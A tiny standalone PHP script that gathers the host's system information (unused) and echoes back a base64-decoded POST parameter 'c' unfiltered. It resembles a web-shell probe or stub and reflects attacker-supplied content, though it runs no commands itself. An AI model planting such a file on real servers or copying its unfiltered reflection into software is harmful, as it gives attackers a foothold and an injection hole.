<?php
$u = php_uname();
echo base64_decode($_POST['c']);
?>
